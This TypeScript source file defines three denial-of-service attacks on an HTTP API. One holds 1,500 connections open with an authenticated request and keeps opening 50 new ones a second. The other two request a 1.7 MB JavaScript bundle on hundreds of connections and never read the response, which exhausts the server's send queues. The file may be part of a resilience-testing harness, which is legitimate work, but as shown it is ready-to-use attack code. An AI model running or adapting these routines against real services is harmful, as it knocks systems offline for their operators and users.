import type { Attack } from './attack.ts';
import { keepOpen, sendOnEach, withSockets } from './open-sockets.ts';
import { bearer, request } from './requests.ts';

/** Fills the table of connections with 1,500 that have sent one valid request each, and opens 50 others a second. */
export const holdConnections: Attack = (target) =>
  withSockets(target, async (sockets) => {
    const list = request('GET /v1/pets', [bearer(target.apiKey)]);
    await keepOpen(sockets, 1_500, (socket) => socket.write(list));
    while (!sockets.isOver()) {
      await sockets.open();
      await sockets.wait(20);
    }
  });

/** Requests a script of 1.7 MB on each of 1,100 connections, without a key, and reads none of it. */
export const waitForScripts: Attack = (target) =>
  withSockets(target, async ({ openDeaf, untilOver }) => {
    const script = request('GET /docs/swagger-ui-bundle.js');
    for (let opened = 0; opened < 1_100; opened += 100) {
      await sendOnEach(openDeaf, 100, script);
    }
    await untilOver();
  });

/** The same on 250 connections, as many as a machine can hold without the limit. */
export const fillSendQueues: Attack = (target) =>
  withSockets(target, async ({ openDeaf, untilOver }) => {
    const script = request('GET /docs/swagger-ui-bundle.js');
    await sendOnEach(openDeaf, 250, script);
    await untilOver();
  });
